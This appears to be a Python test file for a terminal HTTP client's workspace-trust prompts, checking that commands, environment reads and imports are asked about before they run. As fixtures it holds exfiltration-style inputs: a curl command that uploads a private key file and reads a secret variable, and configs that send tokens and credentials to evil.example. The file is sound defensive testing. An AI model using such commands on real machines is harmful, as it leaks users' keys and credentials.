"""What a workspace needs trust for, on the screen: asked once and alone; saving is agreeing."""

from __future__ import annotations

import json
import os
from pathlib import Path

from tests.engine_lab import Lab
from tests.screens.seat import LARGE, Seat, seated
from tests.servers.strict import StrictServers
from textual import events

from outrider.storage.trust_store import TrustStore

DEV = "environments/dev.toml"
LIST = "requests/list.toml"


def edit(lab: Lab, file: str, old: str, new: str) -> None:
    text = (lab.root / file).read_text()
    assert old in text
    lab.write({file: text.replace(old, new)})


async def question(seat: Seat) -> str:
    """What stands in the dialog."""
    await seat.dialog()
    return "\n".join(line.split("┃")[1] for line in seat.lines if line.count("┃") > 1)


async def agree(seat: Seat) -> str:
    """Agrees to what is asked about, waits for what goes on, and gives the question."""
    text = await question(seat)
    await seat.press("t")
    await seat.until(lambda: "Trusted." in seat.said, "the word")
    await seat.until(lambda: not seat.work.controls.sending.sends.any_under_way, "the send")
    return text


async def test_only_what_is_new_is_asked_about_and_only_where_it_is_sent(
    lab: Lab, demo_servers: StrictServers
) -> None:
    edit(lab, DEV, '"dev-only-secret"', '{ command = ["echo", "dev-only-secret"] }')
    lab.write({"requests/other.toml": 'url = "{{base_url}}/{{$env.NEVER_SENT}}"\n'})
    async with seated(lab, LARGE) as seat:
        await seat.open("list")
        await seat.press("ctrl+r")
        asked = await agree(seat)
        assert "runs echo dev-only-secret" in " ".join(asked.split())
        assert f"{DEV}:5" in asked
        assert "NEVER_SENT" not in asked
        await seat.send()
        edit(lab, DEV, "token_endpoint = ", 'token_endpoint = "https://evil.example/t" # ')
        edit(lab, LIST, 'url = "', 'headers = [{ name = "X", value = "{{$env.HOME}}" }]\nurl = "')
        demo_servers.reset()
        await seat.press("ctrl+g", "l")
        await seat.press("ctrl+r")
        asked = await question(seat)
        assert "evil.example" in asked
        assert "HOME" in asked
        assert "echo" not in asked
        await seat.press("n")
        await seat.at_work()
        await seat.press("ctrl+t")
        asked = await question(seat)
        assert "evil.example" in asked
        assert "HOME" not in asked
        await seat.press("escape")
        await seat.at_work()
    assert demo_servers.authorization.recorder.count == 0


async def test_what_is_saved_here_is_agreed_to_and_what_stood_there_is_not(
    lab: Lab, home: Path
) -> None:
    lab.write({LIST: 'url = "{{base_url}}/orders?theirs={{$env.THEIRS}}"\n'})
    async with seated(lab, LARGE) as seat:
        await seat.open("list")
        await seat.edit_url("{{base_url}}/orders?theirs={{$env.THEIRS}}&mine={{$env.MINE}}")
        await seat.press("ctrl+s")
        await seat.until(lambda: "Saved." in seat.said, "the word")
        await seat.press("ctrl+r")
        asked = await question(seat)
        assert "THEIRS" in asked
        assert "MINE" not in asked
        await seat.press("n")


async def test_a_pasted_command_reads_nothing_of_this_machine_unasked(lab: Lab, home: Path) -> None:
    private = home / "key"
    home.mkdir(exist_ok=True)
    private.write_text("private")
    command = f"curl https://a.example/$SECRET_NAME -F f=@{private}"
    async with seated(lab, LARGE) as seat:
        await seat.open("list")
        before = seat.editor.request
        for answer, taken in (("n", False), ("t", True)):
            await seat.press("ctrl+g", "u")
            focused = seat.app.screen.focused
            assert focused is not None
            focused.post_message(events.Paste(command))
            asked = await question(seat)
            assert "OS environment variable SECRET_NAME is read" in asked
            assert "/key" in asked
            await seat.press(answer)
            await seat.at_work()
            assert (seat.editor.request != before) is taken


async def test_an_import_asks_before_it_writes(lab: Lab, home: Path, tmp_path: Path) -> None:
    file = tmp_path / "commands.sh"
    options = tmp_path / "options"
    options.write_text('-H "X: 1"\n')
    file.write_text(f"curl https://a.example/things?k=$SECRET_NAME -K {options}\n")
    made = lab.root / "requests/things.toml"
    for answers in (["n"], ["t", "w", "n"], ["t", "w", "t"]):
        async with seated(lab, LARGE) as seat:
            await seat.press("ctrl+g", "i")
            await seat.dialog()
            await seat.type(str(file))
            await seat.press("enter")
            for number, answer in enumerate(answers):
                assert not made.exists()
                await seat.sees("reads files:" if number == 0 else "SECRET_NAME")
                await seat.press(answer)
            await seat.at_work()
            assert made.exists() is (answers[-1] == "t")
    assert '"X"' in made.read_text()
    trust = TrustStore(home / "state/outrider/trust.json").trust_of(lab.root)
    assert len(trust.agreed or ()) == 1
    assert os.environ.get("SECRET_NAME") is None


async def test_an_import_asks_before_it_moves_requests_that_are_there(
    lab: Lab, home: Path, tmp_path: Path
) -> None:
    file = tmp_path / "dev.json"
    rows = [{"key": "base_url", "value": "https://evil.example", "enabled": True}]
    content = {"name": "dev", "_postman_variable_scope": "environment", "values": rows}
    file.write_text(json.dumps(content))
    before = (lab.root / DEV).read_bytes()
    for answer in ("n", "t"):
        async with seated(lab, LARGE) as seat:
            await seat.press("ctrl+g", "i")
            await seat.dialog()
            await seat.type(str(file))
            await seat.press("enter")
            await seat.sees("of the workspace go to evil.example")
            assert (lab.root / DEV).read_bytes() == before
            await seat.press("o")
            await seat.sees("This import needs trust:")
            asked = " ".join((await question(seat)).split())
            assert "credentials of the workspace go to evil.example" in asked
            assert (lab.root / DEV).read_bytes() == before
            await seat.press(answer)
            await seat.at_work()
            assert ("evil.example" in (lab.root / DEV).read_text()) is (answer == "t")
